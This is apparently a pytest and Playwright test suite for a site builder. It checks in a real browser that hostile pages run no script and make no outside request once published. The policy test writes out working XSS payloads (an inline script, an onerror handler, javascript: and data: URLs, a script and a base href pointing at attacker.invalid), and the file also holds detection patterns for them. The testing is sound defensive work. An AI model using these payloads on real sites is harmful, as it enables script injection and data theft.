"""Every hostile page, published and opened in a real browser: nothing runs, nothing calls out."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest
from playwright.sync_api import Browser, BrowserContext, Error, Page, Route

from services.site_build import Compiler, build_site
from services.site_build.model import CompileContext, PageSource, SiteSource
from services.site_library import load_library
from tests.hostile.corpus import Hostile, hostile_pages

ORIGIN = "http://hostile.test"
LISTEN = """
  window.heard = [];
  window.__pwned = id => heard.push(id);
  addEventListener('message', event => /^pwned:/.test(event.data) && heard.push(event.data));
"""
# Hover, focus, click and submit everything, as a curious visitor would; links stay where they are.
TOUCH = """async () => {
  addEventListener('submit', event => {
    if (!event.target.action.startsWith('javascript:')) event.preventDefault();
  });
  addEventListener('click', event => {
    const link = event.target.closest?.('a');
    if (link && !/^\\s*java/i.test(link.getAttribute('href') ?? '')) event.preventDefault();
  });
  for (const element of document.body.querySelectorAll('*')) {
    for (const type of 'pointerover mouseover mouseenter mousemove focusin input wheel'.split(' '))
      element.dispatchEvent(new Event(type, {bubbles: true}));
    element.focus?.();
    element.click?.();
    element.showPopover && element.popover && element.togglePopover();
    element.requestSubmit?.();
  }
  await new Promise(done => setTimeout(done, 25));
  return heard;
}"""
FOREIGN = """() => {
  const found = [];
  for (const script of document.scripts)
    if (!(script.src.startsWith(location.origin + '/assets/') && script.defer))
      found.push(script.outerHTML);
  for (const element of document.querySelectorAll('*'))
    for (const {name, value} of element.attributes)
      if (/^on/i.test(name) || /^[\\0-\\x20]*(javascript|vbscript|data:text)/i.test(value))
        found.push(`${name}=${value}`);
  return found;
}"""


@dataclass
class Visit:
    """A browser that knows only the published files, and writes down who else was asked."""

    context: BrowserContext
    files: dict[str, bytes] = field(default_factory=dict)
    asked: list[str] = field(default_factory=list)

    def answer(self, route: Route) -> None:
        url = route.request.url
        path = url.removeprefix(ORIGIN).split("?")[0].lstrip("/")
        path += "index.html" if not path or path.endswith("/") else ""
        if not url.startswith(ORIGIN):
            self.asked.append(url)
            route.abort()
        elif path in self.files:
            kind = {"html": "text/html", "css": "text/css", "js": "text/javascript"}
            route.fulfill(
                body=self.files[path],
                content_type=kind.get(path.rsplit(".", 1)[-1], "application/octet-stream"),
            )
        else:
            route.fulfill(status=404, body="")


@pytest.fixture
def visit(browser: Browser) -> Iterator[Visit]:
    context = browser.new_context()
    visiting = Visit(context)
    context.add_init_script(LISTEN)
    context.route("**/*", visiting.answer)
    yield visiting
    context.close()


def publish(*hostile: Hostile, inlines_css: bool = True) -> dict[str, bytes]:
    library = load_library()
    compiler = Compiler(library)
    files: dict[str, bytes] = {}
    for one in hostile:
        settings = {"name": "Hostile", "base_url": f"{ORIGIN}/", "inlines_css": inlines_css}
        site = SiteSource(**(settings | one.site))
        page = compiler.compile(one.page, CompileContext())
        files |= {file.path: file.data for file in build_site(site, [page], library)}
    return files


def heard_on(page: Page, path: str) -> list[str]:
    page.goto(ORIGIN + path, wait_until="load")
    return page.evaluate(TOUCH)


@pytest.mark.slow
@pytest.mark.parametrize("inlines_css", [True, False], ids=["small site", "large site"])
def test_no_hostile_page_runs_anything_when_published(visit: Visit, inlines_css: bool) -> None:
    hostile = hostile_pages()
    visit.files = publish(*hostile, inlines_css=inlines_css)
    page = visit.context.new_page()
    wrong: dict[str, object] = {}
    for one in hostile:
        visit.asked.clear()
        heard = heard_on(page, f"{one.page.path}/")
        leaked = [url for url in visit.asked if "attacker.invalid" in url]
        foreign = page.evaluate(FOREIGN)
        if heard or leaked or foreign or not page.url.startswith(ORIGIN + one.page.path):
            wrong[one.id] = [heard, leaked, foreign, page.url]
    assert not wrong


def test_the_same_pages_do_run_when_nobody_cleans_them(visit: Visit) -> None:
    """The control: without it, the test above would also pass with a marker that never works."""
    hostile = [one for one in hostile_pages() if one.page.html][40:200:7]
    visit.files = {
        f"{one.page.path[1:]}/index.html": (
            f"<!doctype html><body>{one.page.html}<style>{one.page.css}</style>"
        ).encode()
        for one in hostile
    }
    ran = 0
    for one in hostile:
        page = visit.context.new_page()
        try:
            ran += bool(heard_on(page, f"{one.page.path}/"))
        except Error:
            ran += 1  # The page moved away under our hands.
        page.close()
    assert ran > len(hostile) // 3


def test_the_policy_stops_what_cleaning_would_miss(visit: Visit) -> None:
    """The second lock by itself: markup goes into a published page behind the sanitiser's back."""
    files = publish(
        Hostile("lock", PageSource("/lock", "Lock", "<p>x</p>", js="heard.push('own')"))
    )
    attack = (
        b"<script>top.__pwned('inline')</script><img src=x onerror=\"top.__pwned('event')\">"
        b"<iframe src=\"javascript:top.__pwned('frame')\"></iframe>"
        b"<a href=\"javascript:top.__pwned('link')\">x</a>"
        b"<script src=\"data:text/javascript,top.__pwned('data')\"></script>"
        b'<script src="https://attacker.invalid/leak.js"></script>'
        b'<base href="https://attacker.invalid/">'
    )
    visit.files = files | {
        "lock/index.html": files["lock/index.html"].replace(b"<p>x</p>", b"<p>x</p>" + attack)
    }
    assert heard_on(visit.context.new_page(), "/lock/") == ["own"]
    assert not visit.asked


def test_head_code_and_page_scripts_run_and_may_load_what_they_name(visit: Visit) -> None:
    page = Hostile(
        "own",
        PageSource(
            "/own", "Own", "<p>x</p>",
            js="heard.push('page');const s=document.createElement('script');"
            "s.src='https://cdn.example/named.js';document.head.append(s)",
        ),
        {
            "head_code": "<script>\r\nheard.push('head')\r\n</script>"
            '<script src="https://tags.example/t.js" async></script>'
        },
    )  # fmt: skip
    visit.files = publish(page)
    assert sorted(heard_on(visit.context.new_page(), "/own/")) == ["head", "page"]
    assert sorted(visit.asked) == ["https://cdn.example/named.js", "https://tags.example/t.js"]
